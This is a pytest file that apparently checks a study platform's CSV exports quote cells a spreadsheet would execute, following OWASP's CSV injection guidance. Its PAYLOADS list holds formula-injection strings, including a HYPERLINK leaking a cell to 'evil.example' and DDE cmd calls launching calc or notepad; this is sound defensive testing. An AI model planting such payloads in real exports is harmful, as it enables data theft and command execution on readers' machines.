"""Spreadsheet formula injection: every CSV export neutralises cells a spreadsheet would run.

OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells starting
with `=`, `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) are prefixed with a single quote; so
are those starting with NUL (0x00), as OWASP ASVS 5.0 (1.2.10) adds.
"""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from results.presenting import exports
from studies.setup.studies import study_create
from tests import personas
from tests.annotation.helpers import import_instruction_induction
from tests.factories import Bot, pid

pytestmark = pytest.mark.django_db

#: what participants write as their instruction (at least 15 characters each)
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the answer")',
    "+SUM(1,2) and then add the numbers",
    '-2+3+cmd|" /C calc"!A0 reverse the word',
    '@SUM(1+9)*cmd|" /C calc"!A0 rule here',
    "\tcmd tab-led: write the opposite word",
    "=cmd|' /C notepad'!A1 then the plural",
)  # a carriage return leading a typed answer does not survive the form post; the helper's test covers it
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


@pytest.fixture
def written(db):
    """Two participants of an instruction-induction study who typed formulas as their instructions."""
    import_instruction_induction()
    study = study_create(
        name="induction formulas",
        benchmark="instruction_induction",
        design={"tasks_per_participant": 3, "annotators_per_task": 1},
    )
    answers = iter(PAYLOADS)
    for n in (1, 2):
        bot = Bot(study, pid(n))
        bot.complete(choose=lambda item: next(answers))
    return study


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")) for cell in row]


def _assert_neutralised(content: bytes, *, raw: bool) -> None:
    cells = _cells(content)
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    # each payload is still there, whole, behind one quote (the written answer is stripped)
    for payload in PAYLOADS:
        expected = payload if raw else payload.strip()
        if expected.startswith(TRIGGERS):
            assert "'" + expected in cells
        else:
            assert expected in cells


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\x00=1+1", "'\x00=1+1"),
        ("\x00", "'\x00"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (True, "true"),
        (None, None),
    ],
)
def test_one_helper_quotes_exactly_the_cells_owasp_names(value, expected):
    assert exports.csv_cell(value) == expected


def _download(url: str):
    response = personas.signed_in(personas.superuser("staff")).get(url)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("fmt", ["csv", "wide-csv"])
def test_the_researcher_page_download_neutralises_formulas(written, fmt):
    _assert_neutralised(_download(f"/studies/{written.pk}/export/{fmt}/?include_free_text=1"), raw=fmt == "csv")


@pytest.mark.parametrize("fmt", ["csv", "wide-csv"])
def test_the_api_export_neutralises_formulas(written, fmt):
    _assert_neutralised(_download(f"/api/studies/{written.pk}/exports/{fmt}/?include_free_text=true"), raw=fmt == "csv")


@pytest.mark.parametrize("fmt", ["csv", "wide-csv"])
def test_the_export_command_neutralises_formulas(written, tmp_path, fmt):
    target = tmp_path / f"export-{fmt}.csv"
    call_command(
        "export_results", written.name, "--format", fmt, "--out", str(target), "--include-free-text", stderr=StringIO()
    )
    _assert_neutralised(target.read_bytes(), raw=fmt == "csv")
    out = StringIO()
    call_command("export_results", written.name, "--format", fmt, "--out", "-", "--include-free-text", stdout=out)
    _assert_neutralised(out.getvalue().encode("utf-8"), raw=fmt == "csv")
